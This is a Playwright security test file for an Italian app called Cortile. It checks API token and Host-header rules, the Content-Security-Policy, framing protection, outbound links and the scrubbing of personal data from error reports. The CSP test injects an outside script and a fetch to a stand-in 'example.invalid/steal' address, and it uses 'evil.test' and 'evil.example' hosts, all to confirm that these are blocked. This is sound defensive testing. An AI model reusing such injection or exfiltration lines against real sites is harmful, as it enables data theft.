// The security rules that can be checked in the browser shell. The Electron
// shell's own handlers (will-navigate, setWindowOpenHandler, IPC sender
// checks) are pure rules tested in tests/unit/electron-security.test.ts; here
// the same page and API are driven in Chromium.
import http from 'node:http';
import type { Page, Request } from '@playwright/test';
import { expect, snap, test } from './fixtures';
import { homeHeading, navigation, setupViaApi } from './support/flows';
import { ADMIN } from './support/people';

/** Collects the page's CSP violations (directive and blocked address). */
// Browser-side code is passed as text: these Node-side tests have no DOM types.
async function watchViolations(page: Page): Promise<void> {
  await page.evaluate(`
    window.violations = [];
    document.addEventListener('securitypolicyviolation', (event) => {
      window.violations.push(event.effectiveDirective + ' ' + event.blockedURI);
    });
  `);
}

/** POST app.status with a chosen Host header (fetch cannot set one): how a DNS-rebinding page would call. */
function statusWithHost(baseURL: string, token: string, host: string): Promise<number> {
  const target = new URL('api/app.status', baseURL);
  return new Promise((resolve, reject) => {
    const request = http.request(
      target,
      { method: 'POST', headers: { host, 'x-cortile-token': token, 'content-type': 'application/json' } },
      (response) => {
        response.resume();
        resolve(response.statusCode ?? 0);
      },
    );
    request.on('error', reject);
    request.end('{}');
  });
}

function violations(page: Page): Promise<string[]> {
  return page.evaluate<string[]>('window.violations');
}

test('the API refuses unknown calls, missing or wrong tokens, foreign hosts and other methods', async ({
  server,
  apiCall,
}) => {
  const post = (name: string, headers: Record<string, string>) =>
    fetch(`${server.baseURL}api/${name}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', ...headers },
      body: '{}',
    });

  // A name outside the contract is refused before anything runs.
  const unknown = (await apiCall('app.doesNotExist' as 'app.status', {})) as unknown as {
    ok: boolean;
    error: { kind: string; message: string };
  };
  expect(unknown.ok).toBe(false);
  expect(unknown.error.kind).toBe('not_found');
  expect(unknown.error.message).toBe('Operazione sconosciuta.');

  // No token, a wrong token: refused, whatever the call.
  expect((await post('app.status', {})).status).toBe(401);
  expect((await post('app.status', { 'x-cortile-token': 'x'.repeat(server.token.length) })).status).toBe(401);
  expect((await post('app.about', { 'x-cortile-token': `${server.token}x` })).status).toBe(401);

  // The right token from the right host works; a foreign Host header (DNS rebinding) does not.
  expect((await post('app.status', { 'x-cortile-token': server.token })).status).toBe(200);
  expect(await statusWithHost(server.baseURL, server.token, 'evil.example')).toBe(403);
  expect(await statusWithHost(server.baseURL, server.token, new URL(server.baseURL).host)).toBe(200);

  // Calls are POST only.
  const get = await fetch(`${server.baseURL}api/app.status`, {
    headers: { 'x-cortile-token': server.token },
  });
  expect(get.status).toBe(405);

  // Administrator calls need a signed-in administrator.
  const locked = await apiCall('dataFolder.info', {});
  expect(locked.ok).toBe(false);
  if (!locked.ok) expect(locked.error.kind).toBe('locked');
});

test('the page is locked down by its Content-Security-Policy: no outside scripts, requests, forms or framing', async ({
  page,
  url,
  server,
  apiCall,
}) => {
  await setupViaApi(apiCall);
  const response = await page.goto(url);
  const csp = (await response?.headerValue('content-security-policy')) ?? '';
  for (const directive of [
    "default-src 'self'",
    "script-src 'self'",
    "connect-src 'self'",
    "form-action 'none'",
    "frame-ancestors 'none'",
    "base-uri 'none'",
    "object-src 'none'",
  ]) {
    expect(csp).toContain(directive);
  }
  await expect(homeHeading(page, ADMIN.fullName)).toBeVisible();
  await watchViolations(page);

  // A script from outside, an inline script, a request to another site, a form posting outside.
  const outcome = await page.evaluate<{ inlineRan: boolean; fetched: boolean }>(`(async () => {
    const external = document.createElement('script');
    external.src = 'https://example.invalid/x.js';
    document.body.append(external);
    const inline = document.createElement('script');
    inline.textContent = 'window.inlineRan = true;';
    document.body.append(inline);
    let fetched = true;
    try {
      await fetch('https://example.invalid/steal', { method: 'POST', body: 'x' });
    } catch {
      fetched = false;
    }
    const form = document.createElement('form');
    form.action = 'https://example.invalid/form';
    form.method = 'post';
    document.body.append(form);
    form.submit();
    await new Promise((resolve) => setTimeout(resolve, 300));
    return { inlineRan: window.inlineRan === true, fetched };
  })()`);
  expect(outcome).toEqual({ inlineRan: false, fetched: false });
  expect(new URL(page.url()).origin).toBe(new URL(server.baseURL).origin);
  const seen = await violations(page);
  expect(seen.some((v) => v.startsWith('script-src-elem https://example.invalid'))).toBe(true);
  expect(seen.some((v) => v.startsWith('script-src-elem inline'))).toBe(true);
  expect(seen.some((v) => v.startsWith('connect-src https://example.invalid'))).toBe(true);
  expect(seen.some((v) => v.startsWith('form-action https://example.invalid'))).toBe(true);

  // Another site cannot show the app inside a frame of its own.
  await page.route('http://evil.test/**', (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: `<!doctype html><title>x</title><iframe id="f" src="${server.baseURL}"></iframe>`,
    }),
  );
  await page.goto('http://evil.test/');
  await page.waitForTimeout(1000);
  const framed = page.frames().find((f) => f !== page.mainFrame());
  const framedText = framed ? await framed.evaluate<string>('document.body.innerText').catch(() => '') : '';
  expect(framedText).not.toContain('Cortile');
});

test('the app talks only to itself, and links that leave it open outside with no referrer', async ({
  page,
  url,
  server,
  apiCall,
}) => {
  await setupViaApi(apiCall);
  const origin = new URL(server.baseURL).origin;
  const outside: string[] = [];
  page.on('request', (request: Request) => {
    const target = new URL(request.url());
    if (target.protocol !== 'data:' && target.protocol !== 'blob:' && target.origin !== origin) {
      outside.push(target.origin);
    }
  });
  await page.goto(url);
  await expect(homeHeading(page, ADMIN.fullName)).toBeVisible();

  const anchors: { href: string; target: string; rel: string }[] = [];
  const collect = async () => {
    anchors.push(
      ...(await page.evaluate<{ href: string; target: string; rel: string }[]>(`
        [...document.querySelectorAll('a[href]')].map((a) => ({
          href: a.href,
          target: a.getAttribute('target') ?? '',
          rel: a.getAttribute('rel') ?? '',
        }))
      `)),
    );
  };
  await collect();
  const links = await navigation(page).getByRole('link').all();
  expect(links.length).toBeGreaterThan(3);
  for (const name of ['Impostazioni', 'Operatori']) {
    await navigation(page).getByRole('link', { name }).click();
    await expect(page.getByRole('heading', { level: 1, name })).toBeVisible();
    await collect();
  }
  expect(anchors.length).toBeGreaterThan(0);
  for (const anchor of anchors) {
    const target = new URL(anchor.href);
    if (target.origin === origin) continue;
    // A link to another site opens outside the app (a new browser window, or the system browser in Electron).
    expect(anchor.target, anchor.href).toBe('_blank');
    expect(anchor.rel.split(/\s+/), anchor.href).toEqual(expect.arrayContaining(['noopener', 'noreferrer']));
  }
  expect(outside).toEqual([]);
});

test('an unexpected error in the window shows a plain message and logs no personal data', async ({
  page,
  url,
  apiCall,
}) => {
  await setupViaApi(apiCall);
  await page.goto(url);
  await expect(homeHeading(page, ADMIN.fullName)).toBeVisible();

  const reports: string[] = [];
  page.on('request', (request) => {
    if (request.url().endsWith('/api/app.reportError')) reports.push(request.postData() ?? '');
  });
  await page.evaluate(`setTimeout(() => {
    throw new TypeError('Impossibile leggere i dati di Mario Rossi RSSMRA80A01H501U');
  }, 0)`);
  const dialog = page.getByRole('dialog', { name: 'Si è verificato un errore imprevisto' });
  await expect(dialog).toBeVisible();
  await expect(dialog).toContainText('I dati già salvati sono al sicuro');
  await snap(page, 'errore-imprevisto');
  await expect.poll(() => reports.length).toBe(1);
  const sent = JSON.parse(reports[0] ?? '{}') as { source: string; name: string; frames: string[] };
  expect(sent.source).toBe('error');
  expect(sent.name).toBe('TypeError');
  expect(reports[0]).not.toMatch(/Mario|RSSMRA/);
  await dialog.getByRole('button', { name: 'Continua' }).click();
  await expect(dialog).toHaveCount(0);
  await expect(homeHeading(page, ADMIN.fullName)).toBeVisible();
});

test('Impostazioni shows the data folder; in the browser shell it cannot be moved', async ({
  page,
  url,
  server,
  apiCall,
}) => {
  await setupViaApi(apiCall);
  await page.goto(url);
  await navigation(page).getByRole('link', { name: 'Impostazioni' }).click();
  const section = page.getByRole('region', { name: 'Cartella dei dati' });
  await expect(section).toBeVisible();
  await expect(section.getByTestId('data-folder-current')).toHaveText(server.dataDir);
  await expect(section).toContainText('dalla versione nel browser non si può');
  await expect(section.getByRole('button', { name: 'Sposta i dati…' })).toHaveCount(0);
  await section.scrollIntoViewIfNeeded();
  await snap(page, 'impostazioni-cartella-dati');
});
